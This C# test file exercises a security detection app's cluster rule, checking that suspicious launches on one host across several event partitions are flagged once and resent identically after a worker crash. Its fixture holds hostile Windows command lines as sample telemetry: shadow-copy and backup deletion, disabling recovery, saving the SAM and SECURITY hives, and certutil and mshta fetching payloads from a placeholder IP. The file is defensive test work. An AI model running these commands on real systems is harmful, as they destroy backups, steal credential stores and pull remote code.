using Changeling.Events;
using Changeling.HostStandIn;
using Changeling.TestSupport;
using static Changeling.TestSupport.Telemetry;

namespace Changeling.Functions.Tests.App;

/// <summary>The timer function of the cluster rules in the real app on Azurite.</summary>
public class ClustersTests(AppFixture app) : IClassFixture<AppFixture>
{
    private static readonly string[] CommandLines =
    [
        "vssadmin.exe delete shadows /all /quiet", @"reg.exe save hklm\sam s.hiv",
        "certutil.exe -urlcache -split -f http://203.0.113.27/r.txt r.exe",
        "mshta.exe http://203.0.113.27/a.hta", "wbadmin.exe delete catalog -quiet", "wmic.exe shadowcopy delete",
        @"reg.exe save hklm\security x.hiv", "bcdedit.exe /set {default} recoveryenabled no",
    ];

    [Fact(Timeout = 180_000)]
    public async Task Launches_of_one_host_in_several_partitions_are_found_together_and_sent_once()
    {
        var baseline = AzuriteFixture.UniqueName("clusters");
        await using var run = await app.StartAsync(baseline);
        await SendAsync(run.Host);
        var before = run.Detections.Count;

        var evaluated = await run.Host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        var found = Clusters(run);
        var then = await run.Host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        var swept = await run.Host.InvokeTimerAsync("SweepBaseline", TestContext.Current.CancellationToken);

        Assert.True(evaluated.Succeeded && then.Succeeded && swept.Succeeded, evaluated.Failure + then.Failure + swept.Failure);
        Assert.Contains("suspicious-cluster-by-host", found);
        Assert.Equal(before + found.Count, run.Detections.Count);
    }

    [Fact(Timeout = 180_000)]
    public async Task What_the_hub_took_but_did_not_acknowledge_leaves_again_with_the_same_bytes()
    {
        var baseline = AzuriteFixture.UniqueName("clusters");
        await using var run = await app.StartAsync(baseline);
        await SendAsync(run.Host);
        var before = run.Detections.Count;
        run.Hubs.Faults.AnswerDelay = TimeSpan.FromSeconds(30);

        // The hub has taken the detections and not said so yet: in this moment the worker dies.
        var cut = run.Host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);
        await run.Hubs.Hub(AppRun.DetectionsHub).WaitForCountAsync(before + 1, TestContext.Current.CancellationToken);
        run.Hubs.Faults.AnswerDelay = TimeSpan.Zero;
        run.Host.Kill();
        var again = await run.Host.InvokeTimerAsync("EvaluateClusters", TestContext.Current.CancellationToken);

        Assert.True(again.Succeeded, (await cut).Failure + again.Failure);
        Assert.Contains("suspicious-cluster-by-host", Clusters(run));
        Assert.True(run.RepeatsAreEqual);
    }

    /// <summary>Bad launches of host <c>ws-0417</c> in four event partitions, and later ones that close their window.</summary>
    internal static async Task SendAsync(FunctionsHost host)
    {
        foreach (var (i, line) in CommandLines.Index())
        {
            var partition = new EventPartition("telemetry", $"{i % 4}");
            var child = line[..line.IndexOf(' ')];
            var batch = new EventBatch(partition, [Message(i, Record("cmd.exe", child, line, guid: $"{{{i}}}"), Some.Time.AddSeconds(i))]);
            Assert.True((await host.InvokeAsync(batch, TestContext.Current.CancellationToken)).Succeeded);
        }

        for (var i = 0; i < 4; i++)
        {
            var later = Some.Time.AddMinutes(40);
            var batch = new EventBatch(
                new EventPartition("telemetry", $"{i}"), [Message(10 + i, Record("services.exe", "svchost.exe", time: later), later)]);
            Assert.True((await host.InvokeAsync(batch, TestContext.Current.CancellationToken)).Succeeded);
        }
    }

    /// <summary>The cluster rules among what arrived, repeats included.</summary>
    internal static List<string> Clusters(AppRun run) =>
    [
        .. run.Detections.Select(AppRun.Rule)
        .Where(rule => rule.StartsWith("suspicious-cluster-", StringComparison.Ordinal))
        .Order(StringComparer.Ordinal),
    ];
}
